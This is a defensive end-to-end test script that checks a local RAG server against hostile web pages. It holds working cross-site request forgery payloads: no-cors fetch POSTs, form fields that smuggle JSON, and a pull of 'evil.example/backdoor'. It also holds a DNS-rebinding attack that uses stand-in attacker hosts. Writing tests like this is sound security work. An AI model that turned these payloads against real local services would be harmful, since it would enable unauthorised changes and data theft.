// Hostile-page check of the browser boundary (issue 11), with playwright-core + the system
// chromium against a real `genkai-rag server`:
//   1. a page from another origin (a tiny node server on another port, reached both as
//      http://attacker.example:APORT and as the same-site http://127.0.0.1:APORT) fires
//      fetch() POSTs with text/plain and with an untyped body, plain HTML form POSTs
//      (text/plain, urlencoded, multipart) and a text/plain archive upload at the server, and
//      tries to read /api/search and /api/system/status;
//   2. a rebinding name (Chromium's --host-resolver-rules maps evil.example to 127.0.0.1) loads
//      http://evil.example:PORT/ and fetches /api/search, /api/sources and /api/query from it.
// Then, from node (not the browser): no source, session or backup was added, the secret word is
// not searchable, and (with E2E_SERVER_LOG) the server's own log shows it answered the attacks
// with 403, 415 or 421 — they reached it and it refused them, the browser did not just drop them.
//   E2E_URL         base URL of the running server (http://127.0.0.1:PORT/). Required.
//   E2E_SECRET_DIR  an absolute folder the attacks try to add as a source. Required.
//   E2E_SECRET_WORD a word in a document of E2E_SECRET_DIR. Required.
//   E2E_SERVER_LOG  optional: the server's log file (JSON lines) to count its refusals in.
//   CHROMIUM_PATH   optional browser path (default /usr/bin/chromium).
// Exits 0 when every attack was refused and nothing changed, 1 otherwise.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium } from 'playwright-core';

const CHROMIUM = process.env.CHROMIUM_PATH || '/usr/bin/chromium';
const TIMEOUT = 15_000;
const log = (msg) => console.log(`[hostile] ${msg}`);
let step = 'start';

function need(name) {
  const v = process.env[name];
  if (!v) throw new Error(`${name} is not set`);
  return v;
}

/** The attacker's page: every attack it can make without the user doing anything. */
function attackPage(target, secretDir) {
  const t = JSON.stringify(target.replace(/\/$/, ''));
  const dir = JSON.stringify(secretDir);
  return `<!doctype html><meta charset="utf-8"><title>cute cats</title>
<iframe name="sink" style="display:none"></iframe>
<form id="f-plain" method="POST" enctype="text/plain" target="sink"></form>
<form id="f-url" method="POST" target="sink"></form>
<form id="f-multi" method="POST" enctype="multipart/form-data" target="sink"></form>
<script>
const T = ${t}, DIR = ${dir};
window.results = [];
async function attempt(name, fn) {
  try { window.results.push({ name, outcome: await fn() }); }
  catch (e) { window.results.push({ name, outcome: 'blocked: ' + e.message }); }
}
function submit(id, action, fields) {
  const f = document.getElementById(id);
  f.action = T + action;
  f.replaceChildren(...Object.entries(fields).map(([k, v]) => Object.assign(document.createElement('input'), { type: 'hidden', name: k, value: v })));
  f.submit();
  return new Promise((r) => setTimeout(r, 400));
}
window.attack = async (word) => {
  const source = JSON.stringify({ kind: 'folder', location: DIR });
  // Simple requests: no preflight, the browser sends them whatever the server says.
  await attempt('no-cors text/plain POST /api/sources', () => fetch(T + '/api/sources', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: source }).then((r) => 'sent (' + r.type + ')'));
  await attempt('no-cors untyped POST /api/sources', () => fetch(T + '/api/sources', { method: 'POST', mode: 'no-cors', body: new Blob([source]) }).then((r) => 'sent (' + r.type + ')'));
  await attempt('no-cors text/plain POST /api/query', () => fetch(T + '/api/query', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ question: word }) }).then((r) => 'sent (' + r.type + ')'));
  await attempt('no-cors text/plain POST /api/models/pull', () => fetch(T + '/api/models/pull', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ model_name: 'evil.example/backdoor' }) }).then((r) => 'sent (' + r.type + ')'));
  await attempt('no-cors POST /api/system/reload-config', () => fetch(T + '/api/system/reload-config', { method: 'POST', mode: 'no-cors' }).then((r) => 'sent (' + r.type + ')'));
  await attempt('no-cors POST /api/backups', () => fetch(T + '/api/backups', { method: 'POST', mode: 'no-cors' }).then((r) => 'sent (' + r.type + ')'));
  await attempt('no-cors text/plain upload', () => fetch(T + '/api/backups/upload', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '\\x1f\\x8b not really' }).then((r) => 'sent (' + r.type + ')'));
  // Plain HTML forms: the JSON is smuggled in a field name ({"question":"hi=..."}).
  await attempt('form text/plain POST /api/query', () => submit('f-plain', '/api/query', { ['{"question":"' + word + ' hi']: '"}' }).then(() => 'submitted'));
  await attempt('form text/plain POST /api/sources', () => submit('f-plain', '/api/sources', { ['{"kind":"folder","location":"' + DIR + '","x":"']: '"}' }).then(() => 'submitted'));
  await attempt('form urlencoded POST /api/backups', () => submit('f-url', '/api/backups', {}).then(() => 'submitted'));
  await attempt('form multipart POST /api/system/reload-config', () => submit('f-multi', '/api/system/reload-config', { a: 'b' }).then(() => 'submitted'));
  // Reading: without CORS headers the page must not see any answer.
  await attempt('cors GET /api/search', () => fetch(T + '/api/search?q=' + encodeURIComponent(word)).then((r) => r.text()).then((b) => 'READ: ' + b.slice(0, 200)));
  await attempt('cors GET /api/system/status', () => fetch(T + '/api/system/status').then((r) => r.text()).then((b) => 'READ: ' + b.slice(0, 200)));
  await attempt('cors JSON POST /api/sources (preflighted)', () => fetch(T + '/api/sources', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: source }).then((r) => 'READ: ' + r.status));
  return window.results;
};
</script>`;
}

function startAttacker(target, secretDir) {
  const html = attackPage(target, secretDir);
  const srv = createServer((req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(html);
  });
  return new Promise((resolve) => srv.listen(0, '127.0.0.1', () => resolve(srv)));
}

/** Reads from node with the server's own address: what the attacks left behind. */
async function state(base, word) {
  const get = async (p) => {
    const r = await fetch(new URL(p, base));
    if (!r.ok) throw new Error(`GET ${p} = ${r.status} ${await r.text()}`);
    return r.json();
  };
  const [sources, sessions, backups] = await Promise.all([get('/api/sources'), get('/api/sessions'), get('/api/backups')]);
  const search = await fetch(new URL(`/api/search?q=${encodeURIComponent(word)}`, base)).then((r) => r.json());
  return {
    sources: (sources.sources ?? []).map((s) => s.location ?? s.source?.location ?? JSON.stringify(s)),
    sessions: (sessions.sessions ?? []).length,
    backups: (backups.backups ?? []).length,
    hits: (search.hits ?? []).length,
  };
}

/** Counts the server's answers per status for requests to paths under /api/ in its JSON log. */
function refusals(logFile, since) {
  const counts = {};
  for (const line of readFileSync(logFile, 'utf8').split('\n').slice(since)) {
    let e;
    try {
      e = JSON.parse(line);
    } catch {
      continue;
    }
    if (e.msg !== 'http request' || !String(e.path).startsWith('/api/')) continue;
    counts[e.status] = (counts[e.status] ?? 0) + 1;
  }
  return counts;
}

async function main() {
  const base = need('E2E_URL');
  const secretDir = need('E2E_SECRET_DIR');
  const word = need('E2E_SECRET_WORD');
  const logFile = process.env.E2E_SERVER_LOG || '';
  const port = new URL(base).port;
  const logStart = logFile ? readFileSync(logFile, 'utf8').split('\n').length - 1 : 0;

  step = 'read the state before';
  const before = await state(base, word);
  if (before.sources.some((l) => l.includes(secretDir))) throw new Error(`${secretDir} is already a source`);

  step = 'start the attacker page';
  const attacker = await startAttacker(base, secretDir);
  const aport = attacker.address().port;

  step = 'launch chromium';
  const userDataDir = mkdtempSync(join(tmpdir(), 'genkai-hostile-'));
  const context = await chromium.launchPersistentContext(userDataDir, {
    executablePath: CHROMIUM,
    headless: true,
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      '--no-first-run',
      '--disable-quic',
      // DNS rebinding without DNS: these names resolve to this machine.
      '--host-resolver-rules=MAP evil.example 127.0.0.1, MAP attacker.example 127.0.0.1',
    ],
  });
  const failures = [];
  let attacks = 0;
  try {
    const page = context.pages()[0] ?? (await context.newPage());
    page.setDefaultTimeout(TIMEOUT);
    for (const origin of [`http://attacker.example:${aport}`, `http://127.0.0.1:${aport}`]) {
      step = `attack from ${origin}`;
      await page.goto(origin + '/', { waitUntil: 'load' });
      const results = await page.evaluate((w) => window.attack(w), word);
      for (const r of results) {
        attacks++;
        log(`${origin} ${r.name}: ${r.outcome}`);
        if (String(r.outcome).startsWith('READ')) failures.push(`${origin} ${r.name} read the answer: ${r.outcome}`);
      }
    }

    step = 'rebinding: open http://evil.example:PORT/';
    const res = await page.goto(`http://evil.example:${port}/`, { waitUntil: 'load' });
    attacks++;
    log(`evil.example page: ${res?.status()}`);
    if (res?.status() !== 421) failures.push(`the UI under a rebound name answered ${res?.status()}, want 421`);
    step = 'rebinding: same-origin fetches from evil.example';
    const rebound = await page.evaluate(
      async ([w, dir]) => {
        const out = [];
        const tryit = async (name, p, init) => {
          try {
            const r = await fetch(p, init);
            out.push({ name, status: r.status, body: (await r.text()).slice(0, 300) });
          } catch (e) {
            out.push({ name, status: 0, body: e.message });
          }
        };
        await tryit('GET /api/search', '/api/search?q=' + encodeURIComponent(w));
        await tryit('GET /api/system/status', '/api/system/status');
        await tryit('GET /api/logs', '/api/logs');
        const json = { 'Content-Type': 'application/json' };
        await tryit('POST /api/sources', '/api/sources', { method: 'POST', headers: json, body: JSON.stringify({ kind: 'folder', location: dir }) });
        await tryit('POST /api/query', '/api/query', { method: 'POST', headers: json, body: JSON.stringify({ question: w }) });
        return out;
      },
      [word, secretDir],
    );
    for (const r of rebound) {
      attacks++;
      log(`evil.example ${r.name}: ${r.status} ${r.body.slice(0, 120)}`);
      if (r.status !== 421 || !r.body.includes('host not allowed: evil.example')) {
        failures.push(`rebound ${r.name} answered ${r.status} ${r.body}, want 421 host not allowed`);
      }
    }
  } finally {
    await context.close().catch(() => {});
    rmSync(userDataDir, { recursive: true, force: true });
    attacker.close();
  }

  step = 'read the state after';
  await new Promise((r) => setTimeout(r, 1500)); // a sync the attack started would show by now
  const after = await state(base, word);
  log(`before ${JSON.stringify(before)} after ${JSON.stringify(after)}`);
  if (after.sources.some((l) => l.includes(secretDir))) failures.push(`the secret folder became a source: ${after.sources}`);
  if (after.sources.length !== before.sources.length) failures.push(`sources ${before.sources.length} → ${after.sources.length}`);
  if (after.sessions !== before.sessions) failures.push(`sessions ${before.sessions} → ${after.sessions}`);
  if (after.backups !== before.backups) failures.push(`backups ${before.backups} → ${after.backups}`);
  if (after.hits !== 0) failures.push(`the secret word is searchable: ${after.hits} hits`);
  if (logFile) {
    step = 'count the refusals in the server log';
    const counts = refusals(logFile, logStart);
    log(`server answers to /api/ during the attack: ${JSON.stringify(counts)}`);
    const refused = (counts[403] ?? 0) + (counts[415] ?? 0) + (counts[421] ?? 0);
    const ok = Object.entries(counts).filter(([s]) => s < 400 && s !== '200').reduce((n, [, c]) => n + c, 0);
    // The node reads above are 200s; every other answer must be a refusal.
    if (refused < 10) failures.push(`the server refused only ${refused} requests: did the attacks reach it?`);
    if (ok) failures.push(`the server accepted ${ok} requests with a non-200 success status`);
  }
  if (failures.length) throw new Error(failures.join('\n'));
  log(`${attacks} attacks, all refused; nothing changed`);
}

main().then(
  () => {
    log('PASS');
    process.exit(0);
  },
  (err) => {
    console.error(`[hostile] FAIL at step "${step}": ${err?.message ?? err}`);
    process.exit(1);
  },
);
